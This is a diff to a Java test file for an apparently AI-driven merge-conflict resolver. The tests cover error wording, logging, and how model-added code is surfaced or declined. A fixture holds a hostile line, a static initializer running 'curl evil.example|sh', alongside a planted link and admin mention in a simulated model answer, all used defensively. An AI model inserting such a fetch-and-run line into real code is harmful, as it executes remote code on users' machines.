@@ -23,6 +23,8 @@ import org.junit.jupiter.api.io.TempDir;
 import com.github.tomakehurst.wiremock.WireMockServer;
 
 import dev.truce.fixtures.FakeGitHub;
+import dev.truce.fixtures.LogCapture;
+import dev.truce.publish.FixPublisher;
 import dev.truce.fixtures.ScenarioRepo;
 import dev.truce.provider.ModelCatalog;
 import tools.jackson.databind.json.JsonMapper;
@@ -140,14 +142,87 @@ class PullRequestPipelineModelTest {
     }
 
     @Test
-    void aSpentPullRequestBudgetDeclinesTheHunkWithTheReasonInTheNeedsAHumanComment() throws Exception {
+    void aSpentPullRequestBudgetDeclinesTheHunkInPlainWordsAndTheAmountsStayInTheLog() throws Exception {
         s.withModels(models("0")).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
         s.config("models: [coder]\n");
+        try (LogCapture log = LogCapture.of(FixPublisher.class)) {
+            s.resolve();
+
+            model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
+            assertThat(s.gitHub.commentsOn(5)).singleElement().asString()
+                    .contains("`model:coder` declined: the model's budget for this pull request is spent")
+                    .doesNotContain("$", "0.00");
+            assertThat(log.lines()).anySatisfy(line -> assertThat(line).contains("octo/app#5 A.java hunk 1",
+                    "model budget of $0.00 for pull request octo/app#5 reached ($0.00 spent)"));
+        }
+    }
+
+    @Test
+    void aModelThatCannotBeReachedIsDeclinedInPlainWordsAndTheDetailsStayInTheLog() throws Exception {
+        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
+        s.config("models: [on-prem]\n"); // http://127.0.0.1:9/v1: nothing listens there
+        try (LogCapture log = LogCapture.of(FixPublisher.class)) {
+            s.resolve();
+
+            String comment = s.gitHub.commentsOn(5).get(0);
+            assertThat(comment).contains("`model:on-prem` declined: the model provider could not be reached")
+                    .doesNotContain("http", "127.0.0.1", ":9", "/v1", "Exception", "$", "attempt");
+            assertThat(log.lines()).anySatisfy(line -> assertThat(line).contains("octo/app#5 A.java hunk 1",
+                    "at http://127.0.0.1:9/v1 could not be reached: ConnectException"));
+        }
+    }
+
+    /** The model answers {@code answer} from now on. */
+    void modelAnswers(String answer) {
+        String body = "{\"id\":\"chatcmpl-2\",\"object\":\"chat.completion\",\"model\":\"coder\",\"choices\":[{"
+                + "\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":"
+                + JsonMapper.builder().build().writeValueAsString(answer) + "},\"finish_reason\":\"stop\"}],"
+                + "\"usage\":{\"prompt_tokens\":900,\"completion_tokens\":40}}";
+        model.stubFor(post(urlEqualTo("/v1/chat/completions")).willReturn(aResponse().withStatus(200)
+                .withHeader("Content-Type", "application/json").withBody(body)));
+    }
+
+    static final String EXEC = "  static { Runtime.getRuntime().exec(\"sh -c curl evil.example|sh\"); }";
+
+    @Test
+    void codeTheModelAddsIsShownInTheFixPullRequestNotHiddenBehindItsConfidence() throws Exception {
+        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
+        s.config("models: [coder]\n");
+        modelAnswers("<<<HUNK h0 RESOLVED confidence=high>>>\n  int b;\n  int c;\n" + EXEC + "\n<<<END h0>>>\n"
+                + "rationale: keep both, see [the docs](https://evil.example) @octo/admins\n");
         s.resolve();
 
-        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
-        assertThat(s.gitHub.commentsOn(5)).singleElement().asString()
-                .contains("model budget of $0.00 for pull request octo/app#5 reached");
+        String body = s.gitHub.opened.get(0).body();
+        assertThat(body).contains("`model:coder` **new code: 1 line(s)** | keep both, see",
+                "(confidence high) |", "**New code**", "```\n" + EXEC + "\n```")
+                // the link and the mention only as code: shown, but neither followed nor notifying anyone
+                .contains("\\[the `docs](https://evil.example)` `@octo/admins`")
+                .doesNotContain("see [the docs](https://", " @octo/admins");
+    }
+
+    @Test
+    void aRepositoryThatAsksAHumanForNewCodeGetsTheHunkDeclined() throws Exception {
+        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
+        s.config("models: [coder]\nnewCode: human\n");
+        modelAnswers("<<<HUNK h0 RESOLVED confidence=high>>>\n  int b;\n  int c;\n" + EXEC + "\n<<<END h0>>>\n"
+                + "rationale: keep both\n");
+        s.resolve();
+
+        assertThat(s.gitHub.opened).isEmpty();
+        assertThat(s.truceBranches()).isEmpty();
+        assertThat(s.gitHub.commentsOn(5)).singleElement().asString().contains("1 part(s) need a human",
+                "`model:coder` not taken: the model's answer adds code found in none of the three versions, and"
+                        + " this repository asks a human to write new code").doesNotContain("Runtime");
+    }
+
+    @Test
+    void aRepositoryThatAsksAHumanForNewCodeStillTakesAnAnswerMadeOfTheSides() throws Exception {
+        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
+        s.config("models: [coder]\nnewCode: human\n");
+        s.resolve(); // the default answer: int b; int c;
+
+        assertThat(s.gitHub.opened).singleElement().extracting(FakeGitHub.Opened::body).asString()
+                .contains("`model:coder`").doesNotContain("new code");
     }
 
     @Test
